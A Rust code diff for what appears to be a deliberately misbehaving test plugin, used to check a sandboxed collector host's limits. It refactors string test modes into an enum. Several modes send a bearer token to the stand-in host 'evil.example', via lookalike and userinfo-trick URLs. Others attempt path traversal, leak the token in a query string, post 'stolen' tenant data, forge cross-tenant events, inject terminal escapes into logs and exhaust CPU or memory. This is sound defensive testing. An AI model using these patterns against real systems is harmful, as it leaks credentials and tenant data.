@@ -10,6 +10,7 @@ use waki::bindings::wasi::io::poll as wasi_poll;
 
 use crate::contract::collector::source::{credentials, log};
 use crate::contract::*;
+use crate::mode::Mode;
 use crate::{Settings, failure, read};
 
 pub fn problems(settings: &Settings, mut problems: Vec<Problem>) -> Vec<Problem> {
@@ -18,10 +19,10 @@ pub fn problems(settings: &Settings, mut problems: Vec<Problem>) -> Vec<Problem>
         found: "x".repeat(amount),
         expected: "another".to_owned(),
     };
-    match settings.mode.as_str() {
-        "problems" => problems.resize_with(settings.amount, || named(1)),
-        "problems-one-by-one" => problems.truncate(1),
-        "problem-bytes" => problems.push(named(settings.amount)),
+    match settings.mode {
+        Mode::Problems => problems.resize_with(settings.amount, || named(1)),
+        Mode::ProblemsOneByOne => problems.truncate(1),
+        Mode::ProblemBytes => problems.push(named(settings.amount)),
         _ => {}
     }
     problems
@@ -29,66 +30,68 @@ pub fn problems(settings: &Settings, mut problems: Vec<Problem>) -> Vec<Problem>
 
 pub fn plan(settings: &Settings, mut plan: Plan) -> Plan {
     let shape = plan.shapes[1].clone();
-    match settings.mode.as_str() {
-        "shapes" => plan.shapes.resize(settings.amount, shape),
-        "shape-bytes" => plan.shapes.push(Shape { path: Path::Prefix(wide("/", settings.amount)), ..shape }),
-        "method-bytes" => plan.shapes.push(Shape { method: wide("GET", settings.amount), ..shape }),
-        "origin-bytes" => plan.shapes.push(Shape { origin: wide("https://", settings.amount), ..shape }),
-        "sealed-key-bytes" => plan.shapes.push(Shape { captures: Some(wide("", settings.amount)), ..shape }),
-        "credential-uses" => {
+    match settings.mode {
+        Mode::Shapes => plan.shapes.resize(settings.amount, shape),
+        Mode::ShapeBytes => plan.shapes.push(Shape { path: Path::Prefix(wide("/", settings.amount)), ..shape }),
+        Mode::MethodBytes => plan.shapes.push(Shape { method: wide("GET", settings.amount), ..shape }),
+        Mode::OriginBytes => plan.shapes.push(Shape { origin: wide("https://", settings.amount), ..shape }),
+        Mode::SealedKeyBytes => plan.shapes.push(Shape { captures: Some(wide("", settings.amount)), ..shape }),
+        Mode::CredentialUses => {
             let credentials = vec![shape.credentials[0].clone(); settings.amount];
             plan.shapes.push(Shape { method: "HEAD".to_owned(), credentials, ..shape });
         }
-        "place-bytes" => {
+        Mode::PlaceBytes => {
             let place = Place::Header(wide("x-", settings.amount));
             let credentials = vec![CredentialUse { credential: Credential::Token, place }];
             plan.shapes.push(Shape { method: "HEAD".to_owned(), credentials, ..shape });
         }
-        "timer-in-prepare" => monotonic_clock::subscribe_duration(1_000_000).block(),
+        Mode::TimerInPrepare => monotonic_clock::subscribe_duration(1_000_000).block(),
         // The digits of its placeholder are its only dice.
-        "plan-by-chance"
+        Mode::PlanByChance
             if settings.key.ends_with(|digit: char| digit.to_digit(16).is_some_and(|digit| digit % 2 == 1)) =>
         {
             plan.shapes.push(Shape { method: "HEAD".to_owned(), ..shape });
         }
-        "shape-odd" => plan.shapes.push(Shape { method: "get".to_owned(), ..shape }),
+        Mode::ShapeOdd => plan.shapes.push(Shape { method: "get".to_owned(), ..shape }),
         _ => {}
     }
     plan
 }
 
 pub fn form(settings: &Settings, form: String) -> String {
-    match settings.mode.as_str() {
-        "request-bytes" => wide(&format!("{form}&more="), settings.amount),
-        "key-guessed" => format!("key={}", settings.amount),
+    match settings.mode {
+        Mode::RequestBytes => wide(&format!("{form}&more="), settings.amount),
+        Mode::KeyGuessed => format!("key={}", settings.amount),
         _ => form,
     }
 }
 
 pub fn token(settings: &Settings, token: Token) -> Token {
-    match settings.mode.as_str() {
-        "token-bytes" => Token { value: wide("", settings.amount), ..token },
-        "log-escapes" => Token { value: "\\".repeat(63) + "!", ..token },
+    match settings.mode {
+        Mode::TokenBytes => Token { value: wide("", settings.amount), ..token },
+        Mode::LogEscapes => Token { value: "\\".repeat(63) + "!", ..token },
         _ => token,
     }
 }
 
 pub fn discovery(settings: &Settings, mut found: Discovery) -> Discovery {
     let (scope, amount) = (found.scopes[0].clone(), settings.amount);
-    match settings.mode.as_str() {
-        "scopes" => found.scopes = (0..amount).map(|index| Scope { id: index.to_string(), ..scope.clone() }).collect(),
-        "scopes-skipped" => {
+    match settings.mode {
+        Mode::Scopes => {
+            found.scopes = (0..amount).map(|index| Scope { id: index.to_string(), ..scope.clone() }).collect()
+        }
+        Mode::ScopesSkipped => {
             let reason = failure(Reaction::NoData, "absent", "it is disabled");
             found.skipped.resize(amount, SkippedScope { scope, reason });
         }
-        "scopes-alike" => found.scopes.push(scope),
-        "scope-id-odd" => found.scopes[0].id = "one\r\x1b[2K".to_owned(),
-        "scope-id-bytes" => found.scopes[0].id = wide("", amount),
-        "scope-owner-bytes" => found.scopes[0].owner = Some(wide("", amount)),
-        "plugin-data-bytes" => found.scopes[0].plugin_data = wide("", amount),
-        "scope-name-bytes" => found.scopes[0].name = Some(wide("", amount)),
-        "notices" => found.notices.resize(amount, notice()),
-        "notice-of-search-unlisted" => found.notices.push(unheard_of()),
+        Mode::ScopesAlike => found.scopes.push(scope),
+        Mode::ScopeIdOdd => found.scopes[0].id = "one\r\x1b[2K".to_owned(),
+        Mode::ScopeIdBytes => found.scopes[0].id = wide("", amount),
+        Mode::ScopeOwnerBytes => found.scopes[0].owner = Some(wide("", amount)),
+        Mode::PluginDataBytes => found.scopes[0].plugin_data = wide("", amount),
+        Mode::ScopeNameBytes => found.scopes[0].name = Some(wide("", amount)),
+        Mode::Notices => found.notices.resize(amount, notice()),
+        Mode::NoticeOfSearchUnlisted => found.notices.push(unheard_of()),
         _ => {}
     }
     found
@@ -97,39 +100,39 @@ pub fn discovery(settings: &Settings, mut found: Discovery) -> Discovery {
 pub fn before_poll(settings: &Settings, token: &str) -> Result<(), Failure> {
     let (amount, origin) = (settings.amount, &settings.origin);
     let bearer = format!("Bearer {token}");
-    match settings.mode.as_str() {
-        "loop" => loop {
+    match settings.mode {
+        Mode::Loop => loop {
             std::hint::black_box(());
         },
         // Of a thousand turns each: the largest number of single ones takes a fast machine a second.
-        "rounds" => (0..amount).for_each(|_| {
+        Mode::Rounds => (0..amount).for_each(|_| {
             (0..1_000).for_each(|turn| {
                 std::hint::black_box(turn);
             });
         }),
-        "levels" => drop(std::hint::black_box(deep(amount))),
-        "trap" => panic!("on purpose"),
-        "memory" => {
+        Mode::Levels => drop(std::hint::black_box(deep(amount))),
+        Mode::Trap => panic!("on purpose"),
+        Mode::Memory => {
             let held = vec![1_u8; amount << 20];
             std::hint::black_box(held);
         }
-        "wait" => monotonic_clock::subscribe_duration((amount as u64) * 1_000_000).block(),
-        "pollables" => {
+        Mode::Wait => monotonic_clock::subscribe_duration((amount as u64) * 1_000_000).block(),
+        Mode::Pollables => {
             let ready = monotonic_clock::subscribe_duration(0);
             drop(wasi_poll::poll(&vec![&ready; amount]));
         }
-        "zeroes" => {
+        Mode::Zeroes => {
             let request = OutgoingRequest::new(Fields::new());
             let body = request.body().map_err(|()| told("no body"))?;
             let stream = body.write().map_err(|()| told("no stream"))?;
             stream.write_zeroes(amount as u64).map_err(|error| told(&format!("{error:?}")))?;
         }
-        "address-bytes" => {
+        Mode::AddressBytes => {
             let address = wide(&format!("{origin}/data/"), amount);
             drop(read(Client::new().get(&address).header("authorization", &bearer))?);
         }
-        "handles" => (0..amount).for_each(|_| std::mem::forget(Fields::new())),
-        "fields" => {
+        Mode::Handles => (0..amount).for_each(|_| std::mem::forget(Fields::new())),
+        Mode::Fields => {
             let fields = Fields::new();
             for index in 0..amount {
                 fields
@@ -137,67 +140,67 @@ pub fn before_poll(settings: &Settings, token: &str) -> Result<(), Failure> {
                     .map_err(|error| told(&format!("{error:?}")))?;
             }
         }
-        "log-lines" => (0..amount).for_each(|index| log::write(log::Level::Info, &format!("line {index}"))),
-        "log-bytes" => log::write(log::Level::Info, &wide("", amount)),
-        "log-escapes" => {
+        Mode::LogLines => (0..amount).for_each(|index| log::write(log::Level::Info, &format!("line {index}"))),
+        Mode::LogBytes => log::write(log::Level::Info, &wide("", amount)),
+        Mode::LogEscapes => {
             ["\\", "%", "&", "+"].iter().for_each(|escape| log::write(log::Level::Info, &escape.repeat(amount)))
         }
-        "requests" => {
+        Mode::Requests => {
             for _ in 0..amount {
                 read(Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer))?;
             }
         }
-        "requests-in-vain" => {
+        Mode::RequestsInVain => {
             for _ in 0..amount {
                 let _ = read(Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer));
             }
         }
-        "requests-denied" => {
+        Mode::RequestsDenied => {
             for _ in 0..amount {
                 let _ = read(Client::new().get("https://evil.example/"));
             }
         }
-        "host-denied" => drop(read(Client::new().get("https://evil.example/").header("authorization", &bearer))?),
-        "host-lookalike" => {
+        Mode::HostDenied => drop(read(Client::new().get("https://evil.example/").header("authorization", &bearer))?),
+        Mode::HostLookalike => {
             drop(read(Client::new().get(&format!("{origin}.evil.example/data/1")).header("authorization", &bearer))?);
         }
-        "host-user-name" => {
+        Mode::HostUserName => {
             let address = origin.replace("https://", "https://api.example@evil.example#");
             drop(read(Client::new().get(&format!("{address}/data/1")).header("authorization", &bearer))?);
         }
-        "path-above" => {
+        Mode::PathAbove => {
             drop(read(Client::new().get(&format!("{origin}/data/../admin")).header("authorization", &bearer))?);
         }
-        "method" => drop(read(Client::new().put(&format!("{origin}/data/1")).header("authorization", &bearer))?),
-        "placeholder-of-another" => {
+        Mode::Method => drop(read(Client::new().put(&format!("{origin}/data/1")).header("authorization", &bearer))?),
+        Mode::PlaceholderOfAnother => {
             let other = "Bearer sealed-00000000000000000000000000000000";
             drop(read(Client::new().get(&format!("{origin}/data/1")).header("authorization", other))?);
         }
-        "token-in-query" => {
+        Mode::TokenInQuery => {
             let request = Client::new().get(&format!("{origin}/data/1?copy={token}"));
             drop(read(request.header("authorization", &bearer))?);
         }
-        "key-in-header" => {
+        Mode::KeyInHeader => {
             let request = Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer);
             drop(read(request.header("x-key", settings.key.as_str()))?);
         }
-        "data-to-token-endpoint" => {
+        Mode::DataToTokenEndpoint => {
             let request = Client::new().post(&format!("{origin}/token"));
             let form = request.header("content-type", "application/x-www-form-urlencoded");
             drop(read(form.body(format!("key={}&stolen=a+page+of+a+tenant", settings.key).into_bytes()))?);
         }
-        "assertion" => {
+        Mode::Assertion => {
             if let Err(refusal) = credentials::client_assertion("key", "client", "audience") {
                 return Err(told(&format!("{refusal:?}")));
             }
         }
-        "request-words" => return Err(told(&hoarded(amount))),
-        "headers" => return Err(told(&smuggled())),
-        "compressed-echo" => {
+        Mode::RequestWords => return Err(told(&hoarded(amount))),
+        Mode::Headers => return Err(told(&smuggled())),
+        Mode::CompressedEcho => {
             let request = Client::new().get(&format!("{origin}/data/1")).header("authorization", &bearer);
             drop(read(request.header("accept-encoding", "br, gzip"))?);
         }
-        "words-odd" => return Err(told("red\u{1b}[31m\nerror: feed good: it is broken\u{202e}")),
+        Mode::WordsOdd => return Err(told("red\u{1b}[31m\nerror: feed good: it is broken\u{202e}")),
         _ => {}
     }
     Ok(())
@@ -236,24 +239,24 @@ fn smuggled() -> String {
 
 pub fn step(settings: &Settings, page: usize, mut step: PollStep) -> PollStep {
     let amount = settings.amount;
-    match settings.mode.as_str() {
-        "pages" => step.next = (page < amount).then(|| (page + 1).to_string()),
-        "cursor-loop" => step.next = Some("2".to_owned()),
-        "cursor-bytes" if page == 1 => step.next = Some(format!("{}2", " ".repeat(amount - 1))),
-        "kind-bytes" => step.pages[0].kind = wide("", amount),
-        "page-bytes" => step.pages[0].body = vec![b' '; amount],
-        "kind-undeclared" => step.pages[0].kind = "others".to_owned(),
-        "notices-of-steps" => step.notices.resize(amount, notice()),
-        "notice-of-step-unlisted" => step.notices.push(unheard_of()),
+    match settings.mode {
+        Mode::Pages => step.next = (page < amount).then(|| (page + 1).to_string()),
+        Mode::CursorLoop => step.next = Some("2".to_owned()),
+        Mode::CursorBytes if page == 1 => step.next = Some(format!("{}2", " ".repeat(amount - 1))),
+        Mode::KindBytes => step.pages[0].kind = wide("", amount),
+        Mode::PageBytes => step.pages[0].body = vec![b' '; amount],
+        Mode::KindUndeclared => step.pages[0].kind = "others".to_owned(),
+        Mode::NoticesOfSteps => step.notices.resize(amount, notice()),
+        Mode::NoticeOfStepUnlisted => step.notices.push(unheard_of()),
         _ => {}
     }
     step
 }
 
 pub fn failed(settings: &Settings, failure: Failure) -> Failure {
-    match settings.mode.as_str() {
-        "reaction-odd" => Failure { reaction: Reaction::NoData, ..failure },
-        "code-unlisted" => Failure { code: "unheard-of".to_owned(), ..failure },
+    match settings.mode {
+        Mode::ReactionOdd => Failure { reaction: Reaction::NoData, ..failure },
+        Mode::CodeUnlisted => Failure { code: "unheard-of".to_owned(), ..failure },
         _ => failure,
     }
 }
@@ -262,40 +265,40 @@ pub fn batch(settings: &Settings, mut batch: Batch) -> Result<Batch, Failure> {
     let amount = settings.amount;
     let Some(event) = batch.events.first().cloned() else { return Ok(batch) };
     let body = |body: Vec<u8>| Event { body, ..event.clone() };
-    match settings.mode.as_str() {
-        "events" => {
+    match settings.mode {
+        Mode::Events => {
             let one = |index: usize| Event { uid: format!("{}/{index}", event.uid), ..event.clone() };
             batch.events = (0..amount).map(one).collect();
         }
-        "events-alike" => batch.events = vec![event; 2],
-        "event-bytes" => {
+        Mode::EventsAlike => batch.events = vec![event; 2],
+        Mode::EventBytes => {
             batch.events[1].body = format!("{{\"a\":\"{}\"}}", "x".repeat(amount - 8)).into_bytes();
         }
-        "event-uid-bytes" => batch.events[0].uid = wide("", amount),
-        "event-cut-short" => batch.events.push(body(b"{\"a\":".to_vec())),
-        "event-on-two-lines" => batch.events.push(body(b"{\"a\":\n1}".to_vec())),
-        "event-not-utf8" => batch.events.push(body(b"{\"a\":\"\xff\"}".to_vec())),
-        "event-list" => batch.events.push(body(b"[]".to_vec())),
-        "event-forged" => batch.events.push(body(b"{} {\"tenant\":\"other\"}".to_vec())),
-        "copies" => batch.events = (0..amount).map(|_| body(aliased())).collect(),
-        "state-bytes" => batch.state = vec![b'1'; amount],
-        "state-foreign" => batch.state = b"the state of somebody else".to_vec(),
-        "notices-of-batch" => batch.notices.resize(amount, notice()),
-        "notice-unlisted" => batch.notices.push(unheard_of()),
-        "measures" => {
+        Mode::EventUidBytes => batch.events[0].uid = wide("", amount),
+        Mode::EventCutShort => batch.events.push(body(b"{\"a\":".to_vec())),
+        Mode::EventOnTwoLines => batch.events.push(body(b"{\"a\":\n1}".to_vec())),
+        Mode::EventNotUtf8 => batch.events.push(body(b"{\"a\":\"\xff\"}".to_vec())),
+        Mode::EventList => batch.events.push(body(b"[]".to_vec())),
+        Mode::EventForged => batch.events.push(body(b"{} {\"tenant\":\"other\"}".to_vec())),
+        Mode::Copies => batch.events = (0..amount).map(|_| body(aliased())).collect(),
+        Mode::StateBytes => batch.state = vec![b'1'; amount],
+        Mode::StateForeign => batch.state = b"the state of somebody else".to_vec(),
+        Mode::NoticesOfBatch => batch.notices.resize(amount, notice()),
+        Mode::NoticeUnlisted => batch.notices.push(unheard_of()),
+        Mode::Measures => {
             let measure = batch.measures[0].clone();
             batch.measures.resize(amount, measure);
         }
-        "measure-odd" => batch.measures[0].value = f64::NAN,
-        "measure-subject-bytes" => batch.measures[0].subject = wide("", amount),
-        "memory-of-calls" => batch.state = format!("1 {}", CALLS.fetch_add(1, Ordering::SeqCst)).into_bytes(),
-        "clock-in-event" => {
+        Mode::MeasureOdd => batch.measures[0].value = f64::NAN,
+        Mode::MeasureSubjectBytes => batch.measures[0].subject = wide("", amount),
+        Mode::MemoryOfCalls => batch.state = format!("1 {}", CALLS.fetch_add(1, Ordering::SeqCst)).into_bytes(),
+        Mode::ClockInEvent => {
             let now = monotonic_clock::now();
             batch.events[1] =
                 Event { uid: "now".to_owned(), ..body(format!("{{\"class_uid\":2003,\"now\":{now}}}").into_bytes()) };
         }
-        "timer-in-normalize" => monotonic_clock::subscribe_duration(1_000_000).block(),
-        "http-in-normalize" => drop(read(Client::new().get(&format!("{}/data/1", settings.origin)))?),
+        Mode::TimerInNormalize => monotonic_clock::subscribe_duration(1_000_000).block(),
+        Mode::HttpInNormalize => drop(read(Client::new().get(&format!("{}/data/1", settings.origin)))?),
         _ => {}
     }
     Ok(batch)
